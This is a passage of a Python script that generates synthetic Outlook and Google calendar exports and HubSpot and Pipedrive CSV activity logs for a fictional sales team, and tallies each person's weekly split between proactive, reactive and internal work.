    61204550215: "",
    61204550109: "",
    61204550216: "Conservas Rioja",
    61204550219: "Cerámicas Castellón",
}


# ---------------------------------------------------------------- iCalendar writing
def fold(line: str) -> bytes:
    """Fold a content line at 75 octets (RFC 5545 3.1), never inside a UTF-8 sequence."""
    data = line.encode("utf-8")
    out, chunk, limit = [], b"", 75
    for ch in line:
        b = ch.encode("utf-8")
        if len(chunk) + len(b) > limit:
            out.append(chunk)
            chunk, limit = b" ", 75
        chunk += b
    out.append(chunk)
    assert b"".join(c[1:] if i else c for i, c in enumerate(out)) == data
    return b"\r\n".join(out) + b"\r\n"


def text(value: str) -> str:
    return value.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")


def param(value: str) -> str:
    return f'"{value}"' if any(c in value for c in ":;,") else value


def uid_hex(seed: str) -> str:
    return (
        "040000008200E00074C5B7101A82E00800000000"
        + hashlib.sha1(seed.encode()).hexdigest().upper()[:32]
        + "1000000000000000010000000"
        + hashlib.md5(seed.encode()).hexdigest().upper()[:32]
    )


def google_uid(seed: str) -> str:
    alphabet = "0123456789abcdefghijklmnopqrstuv"
    h = int(hashlib.sha1(seed.encode()).hexdigest(), 16)
    return "".join(alphabet[(h >> (5 * i)) & 31] for i in range(26)) + "@google.com"


def meeting_uid(ev: Ev, owner: str, *, google: bool) -> str:
    """The same meeting has the same UID in every attendee's export.

    Meetings organised by a colleague or a customer carry the organiser's (Exchange) UID;
    the owner's own entries get one from the owner's own calendar system."""
    seed = ev.uid or f"{ev.summary}|{ev.day}|{ev.start}"
    if ev.org and (ev.org != owner or all(P[k][1].endswith("@northwind.example") for k in ev.att)):
        return uid_hex(seed)
    return google_uid(f"{owner}|{seed}") if google else uid_hex(f"{owner}|{seed}")


def local(day: int, hhmm: str, tz: ZoneInfo) -> datetime:
    h, m = map(int, hhmm.split(":"))
    return datetime(2026, 11, day, h, m, tzinfo=tz)


def z(dt: datetime) -> str:
    return dt.astimezone(UTC).strftime("%Y%m%dT%H%M%SZ")


def created_for(seed: str, day: int) -> datetime:
    back = 2 + int(hashlib.md5(seed.encode()).hexdigest()[:4], 16) % 12
    return datetime(2026, 11, day, 8, 0, tzinfo=UTC) - timedelta(days=back, minutes=back * 37)


OUTLOOK_VTZ = {
    "Romance Standard Time": [
        "BEGIN:VTIMEZONE",
        "TZID:Romance Standard Time",
        "BEGIN:STANDARD",
        "DTSTART:16011028T030000",
        "RRULE:FREQ=YEARLY;BYDAY=-1SU;BYMONTH=10",
        "TZOFFSETFROM:+0200",
        "TZOFFSETTO:+0100",
        "END:STANDARD",
        "BEGIN:DAYLIGHT",
        "DTSTART:16010325T020000",
        "RRULE:FREQ=YEARLY;BYDAY=-1SU;BYMONTH=3",
        "TZOFFSETFROM:+0100",
        "TZOFFSETTO:+0200",
        "END:DAYLIGHT",
        "END:VTIMEZONE",
    ],
}
OUTLOOK_VTZ["W. Europe Standard Time"] = [
    "TZID:W. Europe Standard Time" if ln.startswith("TZID:") else ln
    for ln in OUTLOOK_VTZ["Romance Standard Time"]
]


def outlook_attendees(ev: Ev, owner: str) -> list[str]:
    lines = []
    for key in ev.att:
        name, mail = P[key]
        ps = ev.owner_partstat if key == owner else "ACCEPTED"
        if key == owner and ev.status == "CANCELLED":
            ps = "NEEDS-ACTION"
        lines.append(f"ATTENDEE;CN={param(name)};PARTSTAT={ps};RSVP=TRUE:mailto:{mail}")
    return lines


def outlook_event(
    ev: Ev,
    owner: str,
    tzid: str,
    uid: str,
    *,
    dtstart: datetime,
    dtend: datetime,
    rrule: str | None = None,
    exdate: datetime | None = None,
    recurrence_id: datetime | None = None,
    seq: int = 0,
) -> list[str]:
    fmt = "%Y%m%dT%H%M%S"
    created = created_for(uid, dtstart.day if dtstart.month == 11 else 1)
    lines = ["BEGIN:VEVENT"]
    lines += outlook_attendees(ev, owner)
    if ev.categories:
        lines.append(f"CATEGORIES:{ev.categories}")
    lines += ["CLASS:PUBLIC", f"CREATED:{z(created)}"]
    lines.append(f"DESCRIPTION:{text(ev.description)}\\n")
    if ev.all_day:
        lines.append(f"DTEND;VALUE=DATE:{(dtend).strftime('%Y%m%d')}")
    else:
        lines.append(f"DTEND;TZID={tzid}:{dtend.strftime(fmt)}")
    lines.append(f"DTSTAMP:{z(EXPORTED)}")
    if ev.all_day:
        lines.append(f"DTSTART;VALUE=DATE:{dtstart.strftime('%Y%m%d')}")
    else:
        lines.append(f"DTSTART;TZID={tzid}:{dtstart.strftime(fmt)}")
    if exdate is not None:
        lines.append(f"EXDATE;TZID={tzid}:{exdate.strftime(fmt)}")
    lines.append(f"LAST-MODIFIED:{z(created + timedelta(hours=3, minutes=12))}")
    lines.append(f"LOCATION:{text(ev.location)}")
    if ev.org:
        name, mail = P[ev.org]
        lines.append(f"ORGANIZER;CN={param(name)}:mailto:{mail}")
    lines.append("PRIORITY:5")
    if recurrence_id is not None:
        lines.append(f"RECURRENCE-ID;TZID={tzid}:{recurrence_id.strftime(fmt)}")
    if rrule:
        lines.append(rrule)
    lines.append(f"SEQUENCE:{seq}")
    if ev.status == "CANCELLED":
        lines.append("STATUS:CANCELLED")
    lines.append(f"SUMMARY;LANGUAGE={ev.lang}:{text(ev.summary)}")
    lines.append(f"TRANSP:{ev.transp}")
    lines.append(f"UID:{uid}")
    lines += [
        f"X-MICROSOFT-CDO-BUSYSTATUS:{ev.busy}",
        "X-MICROSOFT-CDO-IMPORTANCE:1",
        f"X-MICROSOFT-CDO-INTENDEDSTATUS:{ev.busy}",
        "X-MICROSOFT-DISALLOW-COUNTER:FALSE",
        "X-MS-OLK-AUTOFILLLOCATION:FALSE",
        f"X-MS-OLK-CONFTYPE:{0}",
    ]
    if ev.all_day:
        lines.insert(
            lines.index("X-MICROSOFT-CDO-IMPORTANCE:1"), "X-MICROSOFT-CDO-ALLDAYEVENT:TRUE"
        )
    if not ev.all_day and ev.busy != "FREE":
        lines += [
            "BEGIN:VALARM",
            "TRIGGER:-PT15M",
            "ACTION:DISPLAY",
            "DESCRIPTION:Reminder",
            "END:VALARM",
        ]
    lines.append("END:VEVENT")
    return lines


def outlook_calendar(owner: str, events: list[Ev], tzid: str, tz: ZoneInfo, calname: str) -> bytes:
    name, mail = P[owner]
    lines = [
        "BEGIN:VCALENDAR",
        "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN",
        "VERSION:2.0",
        "METHOD:PUBLISH",
        "X-CALSTART:20261115T230000Z",
        "X-CALEND:20261129T230000Z",
        "X-CLIPSTART:20261115T230000Z",
        "X-CLIPEND:20261129T230000Z",
        "X-WR-RELCALID:{0000002E-"
        + hashlib.md5(mail.encode()).hexdigest().upper()[:4]
        + "-"
        + hashlib.md5(mail.encode()).hexdigest().upper()[4:8]
        + "-"
        + hashlib.md5(mail.encode()).hexdigest().upper()[8:20]
        + "}",
        f"X-WR-CALNAME:{calname}",
        "X-PRIMARY-CALENDAR:TRUE",
        f"X-OWNER;CN={param(name)}:mailto:{mail}",
        f'X-MS-OLK-WKHRSTART;TZID="{tzid}":090000',
        f'X-MS-OLK-WKHREND;TZID="{tzid}":180000',
        "X-MS-OLK-WKHRDAYS:MO,TU,WE,TH,FR",
    ]
    lines += OUTLOOK_VTZ[tzid]
    # weekly internal pipeline meeting: master (EXDATE on Mon 16) + moved instance (23 -> 24)
    pl = PIPELINE
    pev = Ev(
        0,
        pl["start"],
        pl["end"],
        pl["summary"],
        "internal",
        org=pl["org"],
        att=pl["att"],
        location="Sala Madrid 1 / Microsoft Teams",
    )
    puid = uid_hex(pl["uid_seed"])
    first = pl["first"]
    s = datetime(first.year, first.month, first.day, 9, 30, tzinfo=tz)
    lines += outlook_event(
        pev,
        owner,
        tzid,
        puid,
        dtstart=s,
        dtend=s + timedelta(hours=1),
        rrule=f"RRULE:FREQ=WEEKLY;UNTIL={pl['until_utc']};INTERVAL=1;BYDAY=MO;WKST=MO",
        exdate=local(pl["exdate"], pl["start"], tz),
    )
    od, nd, ns, ne = pl["moved"]
    lines += outlook_event(
        pev,
        owner,
        tzid,
        puid,
        dtstart=local(nd, ns, tz),
        dtend=local(nd, ne, tz),
        recurrence_id=local(od, pl["start"], tz),
        seq=1,
    )
    for ev in events:
        uid = meeting_uid(ev, owner, google=False)
        if ev.all_day:
            d = date(2026, 11, ev.day)
            lines += outlook_event(ev, owner, tzid, uid, dtstart=d, dtend=d + timedelta(days=1))
        else:
            lines += outlook_event(
                ev,
                owner,
                tzid,
                uid,
                dtstart=local(ev.day, ev.start, tz),
                dtend=local(ev.day, ev.end, tz),
                seq=1 if ev.status == "CANCELLED" else 0,
            )
    lines.append("END:VCALENDAR")
    return b"".join(fold(ln) for ln in lines)


GOOGLE_VTZ_MADRID = [
    "BEGIN:VTIMEZONE",
    "TZID:Europe/Madrid",
    "X-LIC-LOCATION:Europe/Madrid",
    "BEGIN:DAYLIGHT",
    "TZOFFSETFROM:+0100",
    "TZOFFSETTO:+0200",
    "TZNAME:CEST",
    "DTSTART:19700329T020000",
    "RRULE:FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU",
    "END:DAYLIGHT",
    "BEGIN:STANDARD",
    "TZOFFSETFROM:+0200",
    "TZOFFSETTO:+0100",
    "TZNAME:CET",
    "DTSTART:19701025T030000",
    "RRULE:FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU",
    "END:STANDARD",
    "END:VTIMEZONE",
]


def google_attendee(key: str, owner: str, ps: str) -> str:
    name, mail = P[key]
    cn = mail if key == owner else name
    extra = ";RSVP=TRUE" if ps == "NEEDS-ACTION" else ""
    return (
        f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT={ps}{extra};CN={param(cn)};"
        f"X-NUM-GUESTS=0:mailto:{mail}"
    )


def google_event(
    ev: Ev,
    owner: str,
    uid: str,
    *,
    start: str,
    end: str,
    rrule: str | None = None,
    exdate: str | None = None,
    recurrence_id: str | None = None,
    seq: int = 0,
    meet: bool = False,
) -> list[str]:
    created = created_for(uid, 12)
    lines = ["BEGIN:VEVENT", start, end]
    if rrule:
        lines.append(rrule)
    if exdate:
        lines.append(exdate)
    lines.append(f"DTSTAMP:{z(EXPORTED)}")
    if ev.org:
        name, mail = P[ev.org]
        lines.append(f"ORGANIZER;CN={param(mail if ev.org == owner else name)}:mailto:{mail}")
    lines.append(f"UID:{uid}")
    people = ([ev.org] if ev.org and ev.org not in ev.att else []) + ev.att
    if ev.org:
        for key in people:
            ps = ev.owner_partstat if key == owner else "ACCEPTED"
            lines.append(google_attendee(key, owner, ps))
    if recurrence_id:
        lines.append(recurrence_id)
    if meet:
        code = google_uid(uid)[:10]
        lines.append(
            f"X-GOOGLE-CONFERENCE:https://meet.google.com/{code[:3]}-{code[3:7]}-{code[7:10]}"
        )
    lines += [
        f"CREATED:{z(created)}",
        f"DESCRIPTION:{text(ev.description)}",
        f"LAST-MODIFIED:{z(created + timedelta(days=1, minutes=7))}",
        f"LOCATION:{text(ev.location)}",
        f"SEQUENCE:{seq}",
        f"STATUS:{ev.status}",
        f"SUMMARY:{text(ev.summary)}",
        f"TRANSP:{ev.transp}",
        "END:VEVENT",
    ]
    return lines


def google_calendar(owner: str, events: list[Ev], recurring: list[dict]) -> bytes:
    mail = P[owner][1]
    lines = [
        "BEGIN:VCALENDAR",
        "PRODID:-//Google Inc//Google Calendar 70.9054//EN",
        "VERSION:2.0",
        "CALSCALE:GREGORIAN",
        "METHOD:PUBLISH",
        f"X-WR-CALNAME:{mail}",
        "X-WR-TIMEZONE:Europe/Madrid",
    ]
    lines += GOOGLE_VTZ_MADRID
    fmt = "%Y%m%dT%H%M%S"
    for rec in recurring:
        ev = Ev(
            0, rec["start"], rec["end"], rec["summary"], "internal", org=rec["org"], att=rec["att"]
        )
        uid = uid_hex(rec["uid_seed"]) if rec["org"] == "javier" else google_uid(rec["uid_seed"])
        f = rec["first"]
        h, m = map(int, rec["start"].split(":"))
        s = datetime(f.year, f.month, f.day, h, m, tzinfo=MADRID)
        e = s + (local(16, rec["end"], MADRID) - local(16, rec["start"], MADRID))
        byday = rec["byday"]
        ex = (
            f"EXDATE;TZID=Europe/Madrid:{local(rec['exdate'], rec['start'], MADRID).strftime(fmt)}"
            if rec.get("exdate")
            else None
        )
        lines += google_event(
            ev,
            owner,
            uid,
            start=f"DTSTART;TZID=Europe/Madrid:{s.strftime(fmt)}",
            end=f"DTEND;TZID=Europe/Madrid:{e.strftime(fmt)}",
            rrule=f"RRULE:FREQ=WEEKLY;WKST=MO;UNTIL={rec['until_utc']};BYDAY={byday}",
            exdate=ex,
            meet=True,
        )
        if rec.get("moved"):
            od, nd, ns, ne = rec["moved"]
            lines += google_event(
                ev,
                owner,
                uid,
                start=f"DTSTART;TZID=Europe/Madrid:{local(nd, ns, MADRID).strftime(fmt)}",
                end=f"DTEND;TZID=Europe/Madrid:{local(nd, ne, MADRID).strftime(fmt)}",
                recurrence_id=f"RECURRENCE-ID;TZID=Europe/Madrid:"
                f"{local(od, rec['start'], MADRID).strftime(fmt)}",
                seq=1,
                meet=True,
            )
    for ev in events:
        uid = meeting_uid(ev, owner, google=True)
        lines += google_event(
            ev,
            owner,
            uid,
            start=f"DTSTART:{z(local(ev.day, ev.start, MADRID))}",
            end=f"DTEND:{z(local(ev.day, ev.end, MADRID))}",
            meet=bool(ev.org) and not ev.location,
        )
    lines.append("END:VCALENDAR")
    return b"".join(fold(ln) for ln in lines)


# ---------------------------------------------------------------- CSV writing
HUBSPOT_HEADER = [
    "Record ID",
    "Call Title",
    "Activity date",
    "Activity assigned to",
    "Call duration",
    "Call direction",
    "Call outcome",
    "Call status",
    "Call notes",
    "Associated Contact",
    "Associated Company",
    "Associated Deal",
]
PIPEDRIVE_HEADER = [
    "Activity - ID",
    "Activity - Subject",
    "Activity - Type",
    "Activity - Due date",
    "Activity - Due time",
    "Activity - Duration",
    "Activity - Done",
    "Activity - Assigned to user",
    "Activity - Organization",
    "Activity - Contact person",
    "Activity - Deal",
    "Activity - Note",
    "Activity - Add time",
    "Activity - Marked as done time",
]


def company_of(key: str | None) -> str:
    return COMPANY.get(P[key][1].split("@")[1], "") if key else ""


def hubspot_csv() -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(HUBSPOT_HEADER)
    for rid, title, day, hhmm, mins, direction, outcome, owner, contact, deal, notes in HUBSPOT:
        status = "Completed" if outcome != "No answer" else "No answer"
        contact_s = f"{P[contact][0]} ({P[contact][1]})" if contact else ""
        company = company_of(contact) or COMPANY_OF_LEAD.get(rid, "")
        w.writerow(
            [
                rid,
                title,
                f"2026-11-{day:02d} {hhmm}",
                P[owner][0],
                mins * 60_000,
                direction,
                outcome,
                status,
                notes,
                contact_s,
                company,
                deal,
            ]
        )
    return buf.getvalue().encode("utf-8")


def pipedrive_csv() -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(PIPEDRIVE_HEADER)
    for aid, subject, typ, day, hhmm, mins, done, owner, contact, deal, note in PIPEDRIVE:
        tz = STOCKHOLM if owner == "erik" else MADRID
        if hhmm:
            due = local(day, hhmm, tz).astimezone(UTC)
            due_date, due_time = due.strftime("%Y-%m-%d"), due.strftime("%H:%M")
            anchor = due
        else:
            due_date, due_time = f"2026-11-{day:02d}", ""
            anchor = datetime(2026, 11, day, 15, 0, tzinfo=UTC)
        dur = f"{mins // 60:02d}:{mins % 60:02d}" if mins else ""
        add = anchor - timedelta(days=3, hours=2, minutes=aid % 47, seconds=aid % 53)
        marked = (anchor + timedelta(minutes=(mins or 0) + 4, seconds=aid % 59)) if done else None
        w.writerow(
            [
                aid,
                subject,
                typ,
                due_date,
                due_time,
                dur,
                "Done" if done else "To do",
                P[owner][0],
                company_of(contact) or PIPEDRIVE_ORG.get(aid, ""),
                P[contact][0] if contact else "",
                deal,
                note,
                add.strftime("%Y-%m-%d %H:%M:%S"),
                marked.strftime("%Y-%m-%d %H:%M:%S") if marked else "",
            ]
        )
    return buf.getvalue().encode("utf-8")


# ---------------------------------------------------------------- build + sanity tally
def build() -> dict[str, bytes]:
    return {
        "outlook-lucia.ics": outlook_calendar(
            "lucia", LUCIA, "Romance Standard Time", MADRID, "Calendario"
        ),
        "outlook-erik.ics": outlook_calendar(
            "erik", ERIK, "W. Europe Standard Time", STOCKHOLM, "Calendar"
        ),
        "google-pablo.ics": google_calendar("pablo", PABLO, [INCIDENCIAS, PIPELINE]),
        "google-marta.ics": google_calendar("marta", MARTA, [PIPELINE]),
        "hubspot-calls.csv": hubspot_csv(),
        "pipedrive-activities.csv": pipedrive_csv(),
    }


def tally() -> None:
    """Rough intended split per person and ISO week (overlaps merged by precedence)."""
    rank = {"proactive": 0, "reactive": 1, "internal": 2}
    iv: dict[str, list] = defaultdict(list)

    def add(who, day, s, e, cat):
        iv[who].append((local(day, s, MADRID), local(day, e, MADRID), cat))

    for who, evs in (("lucia", LUCIA), ("erik", ERIK), ("pablo", PABLO), ("marta", MARTA)):
        for ev in evs:
            if ev.cat:
                add(who, ev.day, ev.start, ev.end, ev.cat)
    for who in ("lucia", "erik", "pablo", "marta"):  # pipeline (moved instance only in window)
        add(who, 24, "09:00", "10:00", "internal")
    for d in range(16, 28):
        if date(2026, 11, d).weekday() < 5:
            add("pablo", d, "09:00", "09:30", "reactive")
    for _rid, _title, day, hhmm, mins, direction, _outcome, owner, *_ in HUBSPOT:
        if mins:
            s = local(day, hhmm, MADRID)
            cat = "reactive" if direction == "Inbound" else "proactive"
            iv[owner].append((s, s + timedelta(minutes=mins), cat))
    for _aid, subject, _typ, day, hhmm, mins, _done, owner, *_ in PIPEDRIVE:
        if hhmm and mins and day < 30:
            s = local(day, hhmm, MADRID)
            low = subject.lower()
            cat = (
                "reactive"
                if ("support" in low or "soporte" in low or "incidencia" in low)
                else "proactive"
            )
            iv[owner].append((s, s + timedelta(minutes=mins), cat))
    avail = {"lucia": {47: 40, 48: 32}}
    for who, items in iv.items():
        for week in (47, 48):
            minute_cat: dict[datetime, str] = {}
            for s, e, cat in items:
                if s.isocalendar().week != week:
                    continue
                t = s
                while t < e:
                    if t not in minute_cat or rank[cat] < rank[minute_cat[t]]:
                        minute_cat[t] = cat
                    t += timedelta(minutes=5)
            h = defaultdict(float)
            for cat in minute_cat.values():
                h[cat] += 5 / 60
            a = avail.get(who, {}).get(week, 40)
            logged = sum(h.values())
            print(
                f"{who:6} W{week}: logged {logged:5.1f}h  "
                + "  ".join(f"{c} {h[c]:4.1f}h ({h[c] / a:4.0%})" for c in rank)
                + f"  unlogged {a - logged:4.1f}h"
            )


def main(argv: list[str]) -> int:
    files = build()
    if "--check" in argv:
        stale = [
            n for n, b in files.items() if not (OUT / n).exists() or (OUT / n).read_bytes() != b
        ]
        tally()
        print("stale:", stale or "none")
        return 1 if stale else 0
    OUT.mkdir(exist_ok=True)
    for name, data in files.items():
        (OUT / name).write_bytes(data)
    tally()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
